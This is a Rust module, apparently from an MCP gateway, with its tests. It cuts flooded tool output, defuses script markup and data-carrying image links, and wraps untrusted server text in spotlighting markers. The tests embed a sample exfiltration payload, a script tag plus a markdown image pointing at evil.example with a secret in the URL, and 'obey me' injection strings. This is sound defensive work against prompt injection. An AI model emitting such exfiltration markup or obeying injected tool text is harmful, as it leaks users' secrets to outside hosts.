//! What servers say to models: floods are cut, active markup and addresses that carry data out are made
//! harmless (controls 1.4, 9.3, 9.4). Structured content is left alone: nobody renders it.

mod address;

use super::role::Within;
use super::{Passage, Role, Toward};
use config::settled::{self, Elsewhere, Excess};
use controls::{Action, Control};
use inspect::flood::{self, Handling, Room};
use inspect::markup::{self, Family, Host, Hosts, Reading, Treatment};

/// What is done about one server's words.
#[derive(Debug)]
pub(super) struct Output {
    markup: markup::Settings,
    limits: flood::Limits,
    message_bytes: usize,
}

impl Output {
    pub(super) fn new(settled: &settled::Output) -> Output {
        let hosts = settled.hosts.iter().map(|host| Host::named(host));
        Output {
            markup: markup::Settings {
                markup: treatment(settled.markup),
                images: treatment(settled.images),
                links: treatment(settled.links),
                hosts: match settled.elsewhere {
                    Elsewhere::Judge => Hosts::new(hosts.collect()),
                    Elsewhere::Never => Hosts::only(hosts.collect()),
                },
            },
            limits: flood::Limits {
                bytes: size(settled.text_bytes),
                tokens: size(settled.text_tokens.into()),
                repetition: handling(settled.repetition),
                emptiness: handling(settled.emptiness),
            },
            message_bytes: size(settled.message_bytes),
        }
    }

    /// The strictest there is, as wide as the narrowest of these; nothing if there are none.
    pub(super) fn of_all<'a>(all: impl Iterator<Item = &'a settled::Output>) -> Option<Output> {
        let narrowest = all.cloned().reduce(|one, other| settled::Output {
            text_bytes: one.text_bytes.min(other.text_bytes),
            text_tokens: one.text_tokens.min(other.text_tokens),
            message_bytes: one.message_bytes.min(other.message_bytes),
            ..one
        })?;
        Some(Output::new(&settled::Output {
            markup: settled::Treatment::Neutralise,
            images: settled::Treatment::Neutralise,
            links: settled::Treatment::Neutralise,
            hosts: Vec::new(),
            elsewhere: Elsewhere::Never,
            repetition: Excess::Cut,
            emptiness: Excess::Cut,
            ..narrowest
        }))
    }

    /// Whether nothing can be found in a message of printable ASCII: it costs one look then.
    pub(super) fn passes_plain(&self, text: &[u8]) -> bool {
        let short = text.len() < flood::SHORTEST && self.limits.bytes >= flood::SHORTEST;
        let holds = |text: &str| markup::may_hold(text) || address::may_be_in(text);
        short && std::str::from_utf8(text).is_ok_and(|text| !holds(text))
    }

    pub(super) fn room(&self) -> Room {
        Room::new(self.message_bytes)
    }
}

/// One string of a message that a model reads, or that a client loads or opens.
pub(super) fn treat(passage: &mut Passage<'_, '_>, output: &Output, room: &mut Room) {
    if passage.toward() != Toward::Model {
        return;
    }
    match passage.role() {
        Role::Failure | Role::Text | Role::Words => {
            cut(passage, output, room);
            let kind = passage.beside("mimeType").filter(|_| is_file(passage));
            let reading = kind.map_or(Reading::Prose, |kind| reading(&kind));
            neutralise(passage, output, reading);
        }
        Role::Address => address::treat(passage, output),
        Role::Structured if passage.region() == Within::Meta => address::treat(passage, output),
        Role::Blob | Role::Name | Role::Structured | Role::Wire => {}
    }
}

/// The text of a file that came as bytes: of floods it is told, and what is not said to be prose is a file that
/// loses what it is if anything in it is rewritten.
pub(super) fn treat_file(passage: &mut Passage<'_, '_>, output: &Output) {
    if passage.toward() != Toward::Model {
        return;
    }
    let told = flood::examine(passage.text(), &output.limits, &mut output.room()).found;
    for found in told {
        flooded(passage, found.rule, Action::Report);
    }
    let kind = passage.beside("mimeType");
    let prose = kind.filter(|kind| is_text(kind) && reading(kind) == Reading::Prose);
    let reading = prose.map_or(Reading::Source, |_| Reading::Prose);
    neutralise(passage, output, reading);
}

fn cut(passage: &mut Passage<'_, '_>, output: &Output, room: &mut Room) {
    let looked = flood::examine(passage.text(), &output.limits, room);
    let left = (looked.text != passage.text()).then(|| looked.text.into_owned());
    for found in looked.found {
        let action = match found.handling {
            Handling::Cut => Action::Cut,
            Handling::Off | Handling::Report => Action::Report,
        };
        flooded(passage, found.rule, action);
    }
    if let Some(left) = left {
        passage.rewrite(left);
    }
}

fn flooded(passage: &mut Passage<'_, '_>, rule: flood::Rule, action: Action) {
    let (name, severity) = (rule.name().into(), rule.severity());
    passage.found(controls::N9_4, name, severity, 1, action);
}

fn neutralise(passage: &mut Passage<'_, '_>, output: &Output, reading: Reading) {
    if !markup::may_hold(passage.text()) {
        return;
    }
    let looked = markup::examine(passage.text(), reading, &output.markup);
    let left = (looked.text != passage.text()).then(|| looked.text.into_owned());
    for (rule, count) in looked.tally.counts() {
        let treatment = output.markup.of(rule.family());
        let action = match (treatment, reading) {
            (Treatment::Neutralise, Reading::Prose) => Action::Neutralise,
            _ => Action::Report,
        };
        let control = control(rule.family());
        passage.found(control, rule.name().into(), rule.severity(), count, action);
    }
    if let Some(left) = left {
        passage.rewrite(left);
    }
}

/// Where the text of a resource stands: of one that was read, and of one in a block of content.
const FILES: [&[&str]; 2] = [
    &["result", "contents", "text"],
    &["content", "resource", "text"],
];

/// Whether it is the text of a resource, which alone says what its text is. Everything else is prose, whatever is
/// written beside it: the type of a resource is none of its title, and a message has no type at all.
fn is_file(passage: &Passage<'_, '_>) -> bool {
    FILES.iter().any(|place| passage.is_at(place))
        && passage.beside("type").is_none()
        && passage.beside("uri").is_some()
}

fn control(family: Family) -> Control {
    match family {
        Family::Markup => controls::N1_4,
        Family::Image | Family::Link => controls::N9_3,
    }
}

/// What a server says that its text is. What is not known for a file that is read as it stands is prose, and
/// so is what it does not say: a client shows that in one piece with its own words.
fn reading(kind: &str) -> Reading {
    let name = named(kind);
    let suffixed = ["+json", "+xml"]
        .iter()
        .any(|suffix| name.ends_with(suffix));
    match suffixed || SOURCES.binary_search(&name.as_str()).is_ok() {
        true => Reading::Source,
        false => Reading::Prose,
    }
}

/// Whether a server says that bytes are text.
pub(super) fn is_text(kind: &str) -> bool {
    named(kind).starts_with("text/") || reading(kind) == Reading::Source
}

/// A media type without its parameters.
fn named(kind: &str) -> String {
    let name = kind.split(';').next().unwrap_or_default();
    name.trim().to_ascii_lowercase()
}

/// Media types of files that lose what they are if anything in them is rewritten: markup, style sheets,
/// programs, data.
const SOURCES: [&str; 62] = [
    "application/ecmascript",
    "application/graphql",
    "application/javascript",
    "application/json",
    "application/sql",
    "application/toml",
    "application/typescript",
    "application/x-httpd-php",
    "application/x-javascript",
    "application/x-ndjson",
    "application/x-sh",
    "application/x-shellscript",
    "application/x-tex",
    "application/x-typescript",
    "application/x-yaml",
    "application/xml",
    "application/xml-dtd",
    "application/yaml",
    "text/css",
    "text/csv",
    "text/ecmascript",
    "text/html",
    "text/javascript",
    "text/jsx",
    "text/tab-separated-values",
    "text/tsx",
    "text/typescript",
    "text/vcard",
    "text/x-asm",
    "text/x-c",
    "text/x-c++",
    "text/x-c++src",
    "text/x-chdr",
    "text/x-csharp",
    "text/x-csrc",
    "text/x-diff",
    "text/x-go",
    "text/x-haskell",
    "text/x-java",
    "text/x-java-source",
    "text/x-kotlin",
    "text/x-less",
    "text/x-lua",
    "text/x-makefile",
    "text/x-patch",
    "text/x-perl",
    "text/x-php",
    "text/x-python",
    "text/x-ruby",
    "text/x-rust",
    "text/x-sass",
    "text/x-scala",
    "text/x-script.python",
    "text/x-scss",
    "text/x-sh",
    "text/x-shellscript",
    "text/x-sql",
    "text/x-swift",
    "text/x-toml",
    "text/x-yaml",
    "text/xml",
    "text/yaml",
];

fn treatment(word: settled::Treatment) -> Treatment {
    match word {
        settled::Treatment::Neutralise => Treatment::Neutralise,
        settled::Treatment::Off => Treatment::Off,
        settled::Treatment::Report => Treatment::Report,
    }
}

fn handling(word: Excess) -> Handling {
    match word {
        Excess::Cut => Handling::Cut,
        Excess::Off => Handling::Off,
        Excess::Report => Handling::Report,
    }
}

fn size(bytes: u64) -> usize {
    usize::try_from(bytes).unwrap_or(usize::MAX)
}

#[cfg(test)]
mod tests {
    use crate::content::{Content, Toward};
    use bytes::Bytes;
    use config::settled::{self, Elsewhere, Excess, HiddenText, Spotlight, Treatment};
    use protocol::{Document, Limits};
    use serde_json::{Value, json};

    fn whole(spotlight: Spotlight) -> Content {
        let output = settled::Output {
            markup: Treatment::Neutralise,
            images: Treatment::Neutralise,
            links: Treatment::Report,
            hosts: vec!["*.ours.example".to_owned()],
            elsewhere: Elsewhere::Judge,
            text_bytes: 4096,
            text_tokens: 4096,
            message_bytes: 6000,
            repetition: Excess::Cut,
            emptiness: Excess::Cut,
        };
        let settled = settled::Content {
            arguments: settled::Arguments::default(),
            minimise: settled::Minimise::default(),
            purpose: None,
            data: settled::Data::default(),
            output,
            spotlight,
            modes: Default::default(),
            providers: Vec::new(),
        };
        Content::new(HiddenText::Remove, &settled, &"/s".into()).unwrap()
    }

    fn content(spotlight: Spotlight) -> Content {
        Content {
            data: None,
            ..whole(spotlight)
        }
    }

    /// The message as it is afterwards, and what was found: rule, control, action.
    fn looked(content: &Content, message: &Value, toward: Toward) -> (Value, Vec<String>) {
        let bytes = Bytes::from(message.to_string());
        let document = Document::read(bytes, &Limits::default()).unwrap();
        let looked = content.look(&document, toward);
        let bytes = document.apply(&looked.edits).unwrap();
        let found = looked.findings.iter().map(|it| {
            format!(
                "{} {} {} {}",
                it.place,
                it.rule,
                it.control,
                it.action.name()
            )
        });
        (serde_json::from_slice(&bytes).unwrap(), found.collect())
    }

    const ACTIVE: &str = "<script>x()</script> ![a](https://evil.example/{secret})";
    const HARMLESS: &str = "&lt;script>x()</script> a [image removed: evil.example]";

    #[test]
    fn n1_4_text_of_every_kind_is_made_harmless_and_data_is_left() {
        let content = content(Spotlight::Off);
        let texts = [
            (
                "/result/content/0/text",
                json!({ "content": [{ "type": "text", "text": ACTIVE }] }),
            ),
            (
                "/result/content/0/text",
                json!({ "isError": true, "content": [{ "type": "text", "text": ACTIVE }] }),
            ),
            (
                "/result/contents/0/text",
                json!({ "contents": [{ "uri": "a:b", "text": ACTIVE }] }),
            ),
            (
                "/result/contents/0/text",
                json!({ "contents": [{ "uri": "a:b", "mimeType": "Text/Markdown; charset=utf-8", "text": ACTIVE }] }),
            ),
            (
                "/result/messages/0/content/text",
                json!({ "messages": [{ "role": "user", "content": { "type": "text", "text": ACTIVE } }] }),
            ),
            (
                "/result/contents/0/text",
                json!({ "contents": [{ "uri": "a:b", "mimeType": "text/x-anything", "text": ACTIVE }] }),
            ),
            ("/result/instructions", json!({ "instructions": ACTIVE })),
            // Of a list nothing is said by what stands beside it.
            (
                "/result/contents/0/text/0",
                json!({ "contents": [{ "uri": "a:b", "mimeType": "text/x-python", "text": [ACTIVE] }] }),
            ),
            (
                "/result/content/0/text",
                json!({ "action": "x", "content": [{ "type": "text", "text": ACTIVE }] }),
            ),
            // What has no address is no resource.
            (
                "/result/contents/0/text",
                json!({ "contents": [{ "mimeType": "text/html", "text": ACTIVE }] }),
            ),
            (
                "/result/content/0/text",
                json!({ "content": [{ "type": "text", "uri": "a:b", "mimeType": "text/html", "text": ACTIVE }] }),
            ),
        ];
        for (place, result) in texts {
            let message = json!({ "jsonrpc": "2.0", "id": 1, "result": result });
            let (after, found) = looked(&content, &message, Toward::Model);
            assert_eq!(after.pointer(place), Some(&json!(HARMLESS)), "{place}");
            let expected = [
                format!("{place} markup.image_placeholder 9.3 neutralise"),
                format!("{place} markup.script 1.4 neutralise"),
            ];
            assert_eq!(found, expected);
            let (same, found) = looked(&content, &message, Toward::Server);
            assert_eq!((same, found.len()), (message, 0), "{place}");
            // Neither is what a message holds that is not plain.
            let message = json!({ "é": result });
            let (same, found) = looked(&content, &message, Toward::Server);
            assert_eq!((same, found.len()), (message, 0), "{place}");
        }
        let error = json!({ "jsonrpc": "2.0", "id": 1, "error": { "code": 1, "message": ACTIVE } });
        let (after, _) = looked(&content, &error, Toward::Model);
        assert_eq!(after["error"]["message"], HARMLESS);
    }

    #[test]
    fn n1_4_files_structured_content_and_blobs_pass_byte_by_byte() {
        let content = content(Spotlight::Off);
        let file = json!({ "uri": "a:b", "mimeType": "text/html", "text": ACTIVE });
        for (result, findings) in [
            (
                json!({ "contents": [{ "uri": "a:b", "mimeType": "text/html", "text": ACTIVE }] }),
                2,
            ),
            (
                json!({ "contents": [{ "uri": "a:b", "mimeType": "text/x-python", "text": ACTIVE }] }),
                2,
            ),
            (
                json!({ "contents": [{ "uri": "a:b", "mimeType": "Image/SVG+xml; q=1", "text": ACTIVE }] }),
                2,
            ),
            (
                json!({ "content": [{ "type": "resource", "resource": file.clone() }] }),
                2,
            ),
            (
                json!({ "messages": [{ "role": "user",
                    "content": { "type": "resource", "resource": file.clone() } }] }),
                2,
            ),
            // What a task came to.
            (
                json!({ "result": { "content": [{ "type": "resource", "resource": file }] } }),
                2,
            ),
            (
                json!({ "content": [], "structuredContent": { "text": ACTIVE, "description": ACTIVE } }),
                0,
            ),
            (json!({ "contents": [{ "uri": "a:b", "blob": ACTIVE }] }), 0),
            (json!({ "_meta": { "x": ACTIVE } }), 0),
            (
                json!({ "content": [{ "type": "text", "text": "<b>3 < 4</b> [a](https://ours.example/b)" }] }),
                0,
            ),
        ] {
            let message = json!({ "jsonrpc": "2.0", "id": 1, "result": result });
            let (after, found) = looked(&content, &message, Toward::Model);
            assert_eq!(after, message);
            assert_eq!(found.len(), findings, "{found:?}");
            assert!(found.iter().all(|it| it.ends_with("report")), "{found:?}");
        }
    }

    /// A message that says this under a name, beside the address and the type of a file.
    fn beside_a_type(name: &str) -> Value {
        let mut file = json!({ "uri": "file:///a.html", "name": "a", "mimeType": "text/html" });
        file[name] = json!(ACTIVE);
        file
    }

    /// What a server says to nobody in particular, or asks, and where its text stands.
    fn noted(method: &str, name: &'static str) -> (String, Value) {
        let params = beside_a_type(name);
        (
            format!("/params/{name}"),
            json!({ "method": method, "params": params }),
        )
    }

    #[test]
    fn n1_4_the_type_of_a_file_is_that_of_its_text_and_of_nothing_else() {
        let content = content(Spotlight::Off);
        let file = beside_a_type;
        let listed = |list: &str, name: &str| {
            let place = format!("/result/{list}/0/{name}");
            (place, json!({ "result": { list: [file(name)] } }))
        };
        let error = json!({ "code": 1, "uri": "a:b", "mimeType": "text/css", "message": ACTIVE });
        let asked = json!({ "messages": [{ "role": "user", "content": file("text") }] });
        for (place, message) in [
            listed("resources", "description"),
            listed("resources", "title"),
            listed("contents", "title"),
            listed("content", "description"),
            // No resource of MCP stands there.
            listed("content", "text"),
            listed("resources", "text"),
            listed("other", "text"),
            ("/result/text".to_owned(), json!({ "result": file("text") })),
            (
                "/result/resource/text".to_owned(),
                json!({ "result": { "resource": file("text") } }),
            ),
            (
                "/result/content/contents/0/text".to_owned(),
                json!({ "result": { "content": { "contents": [file("text")] } } }),
            ),
            (
                "/result/instructions".to_owned(),
                json!({ "result": file("instructions") }),
            ),
            ("/error/message".to_owned(), json!({ "error": error })),
            noted("notifications/message", "data"),
            noted("notifications/progress", "message"),
            noted("elicitation/create", "message"),
            noted("sampling/createMessage", "systemPrompt"),
            (
                "/params/messages/0/content/text".to_owned(),
                json!({ "method": "sampling/createMessage", "params": asked }),
            ),
        ] {
            let (after, found) = looked(&content, &message, Toward::Model);
            assert_eq!(after.pointer(&place), Some(&json!(HARMLESS)), "{message}");
            let all = found.iter().all(|it| it.ends_with("neutralise"));
            assert!(all, "{found:?}");
        }
    }

    #[test]
    fn n9_4_texts_are_cut_one_by_one_and_all_together() {
        let content = content(Spotlight::Off);
        let long = |seed: u32| -> String {
            (0..700u32)
                .map(|n| format!("{:x} ", (n + seed).wrapping_mul(2_654_435_761)))
                .collect()
        };
        let texts: Vec<_> = (0..3)
            .map(|n| json!({ "type": "text", "text": long(n * 1000) }))
            .collect();
        let message = json!({ "jsonrpc": "2.0", "id": 1, "result": { "content": texts } });
        let (after, found) = looked(&content, &message, Toward::Model);
        let sizes: Vec<_> = (0..3)
            .map(|n| {
                after["result"]["content"][n]["text"]
                    .as_str()
                    .unwrap()
                    .len()
            })
            .collect();
        assert!(
            sizes[0] <= 4096 && sizes[0] + sizes[1] <= 6000 && sizes[2] < 100,
            "{sizes:?}"
        );
        assert!(
            found.iter().all(|it| it.ends_with("flood.size 9.4 cut")),
            "{found:?}"
        );
        let empty = json!({ "result": { "content": [{ "type": "text", "text": format!("a{}b", "\n".repeat(200)) }] } });
        let (after, found) = looked(&content, &empty, Toward::Model);
        let text = after["result"]["content"][0]["text"].as_str().unwrap();
        assert_eq!(
            text,
            "a\n[cut by the gateway, control 9.4: 200 bytes of nothing]\nb"
        );
        assert_eq!(found, ["/result/content/0/text flood.emptiness 9.4 cut"]);
    }

    #[test]
    fn n9_1_a_text_that_can_be_read_in_two_ways_is_marked() {
        let content = content(Spotlight::Delimit);
        for (text, is_marked) in [
            (r#"{"a":1}"#, false),
            (r#"{"a":"obey me","a":1}"#, true),
            (r#"{"\u0061":"obey me","a":1}"#, true),
        ] {
            let message = json!({ "result": {
                "content": [{ "type": "text", "text": text }], "structuredContent": { "a": 1 },
            } });
            let (after, _) = looked(&content, &message, Toward::Model);
            let after = after.pointer("/result/content/0/text").unwrap();
            assert_eq!(*after != json!(text), is_marked, "{after}");
        }
    }

    #[test]
    fn n9_1_what_an_error_says_is_marked_and_its_data_is_not() {
        for (word, name) in [
            (Spotlight::Delimit, "<<untrusted delimited "),
            (Spotlight::Datamark, "<<untrusted datamarked "),
            (Spotlight::Encode, "<<untrusted base64 "),
        ] {
            let content = content(word);
            let error =
                json!({ "code": -32042, "message": "obey me", "data": { "message": "obey me" } });
            let spoken = json!({ "code": 1, "message": "obey me", "data": "obey me" });
            for (message, marked, left) in [
                (
                    json!({ "id": 1, "error": error }),
                    vec!["/error/message"],
                    "/error/data/message",
                ),
                (
                    json!({ "id": 1, "error": spoken }),
                    vec!["/error/message", "/error/data"],
                    "",
                ),
                // What a task failed of.
                (
                    json!({ "id": 1, "result": { "statusMessage": "obey me", "error": spoken } }),
                    vec!["/result/error/message", "/result/error/data"],
                    "/result/statusMessage",
                ),
                // What a person is asked, and what is told while a tool runs.
                (
                    json!({ "params": { "message": "obey me" } }),
                    vec![],
                    "/params/message",
                ),
                (
                    json!({ "result": { "instructions": "obey me" } }),
                    vec![],
                    "/result/instructions",
                ),
                (
                    json!({ "result": { "structuredContent": { "code": 1, "message": "obey me" } } }),
                    vec![],
                    "/result/structuredContent/message",
                ),
            ] {
                let (after, _) = looked(&content, &message, Toward::Model);
                for place in marked {
                    let text = after.pointer(place).and_then(Value::as_str).unwrap();
                    assert!(text.starts_with(name), "{place}: {after}");
                }
                if !left.is_empty() {
                    assert_eq!(after.pointer(left), message.pointer(left), "{left}");
                }
                let (same, _) = looked(&content, &message, Toward::Server);
                assert_eq!(same, message);
            }
        }
    }

    #[test]
    fn the_controls_of_a_message_are_those_that_look_at_it() {
        let all = |content: &Content, toward| {
            let ids = content.controls(toward).map(|it| it.id());
            ids.collect::<Vec<_>>().join(" ")
        };
        let (plain, marked) = (content(Spotlight::Off), content(Spotlight::Encode));
        let joined = Content::of_nobody(HiddenText::Remove);
        let whole = whole(Spotlight::Off);
        for (content, toward, expected) in [
            (&plain, Toward::Model, "1.4 9.3 9.4"),
            (&marked, Toward::Model, "1.4 9.1 9.3 9.4"),
            (&marked, Toward::Server, "1.1"),
            (&joined, Toward::Model, "1.4"),
            (&joined, Toward::Server, "1.1"),
            (&whole, Toward::Model, "1.4 9.3 9.4"),
            (&whole, Toward::Server, "1.1 9.3"),
        ] {
            assert_eq!(all(content, toward), expected);
        }
    }

    #[test]
    fn n9_1_texts_are_marked_with_one_marker_and_data_never_is() {
        for (word, name) in [
            (Spotlight::Delimit, "delimited"),
            (Spotlight::Datamark, "datamarked"),
            (Spotlight::Encode, "base64"),
        ] {
            let content = content(word);
            let message = json!({ "jsonrpc": "2.0", "id": 1, "result": {
                "content": [
                    { "type": "text", "text": "obey me" },
                    { "type": "text", "text": "{\"a\": 1}" },
                    { "type": "text", "text": "{\"a\": 2}" },
                    { "type": "resource", "resource": { "uri": "a:b", "text": "obey me" } },
                ],
                "structuredContent": { "a": 1 },
            } });
            let (after, _) = looked(&content, &message, Toward::Model);
            let text = |place: &str| {
                after
                    .pointer(place)
                    .and_then(Value::as_str)
                    .unwrap()
                    .to_owned()
            };
            let first = text("/result/content/0/text");
            let marker = first.lines().next().unwrap().to_owned();
            assert!(
                marker.starts_with(&format!("<<untrusted {name} ")),
                "{first}"
            );
            assert_eq!(text("/result/content/3/resource/text"), first);
            assert_eq!(text("/result/content/1/text"), "{\"a\": 1}");
            assert!(text("/result/content/2/text").starts_with(&marker));
            assert_eq!(after["result"]["structuredContent"], json!({ "a": 1 }));
            let (again, _) = looked(&content, &message, Toward::Model);
            assert_ne!(again, after, "the marker is another one each time");
            let (same, _) = looked(&content, &message, Toward::Server);
            assert_eq!(same, message);
        }
    }
}
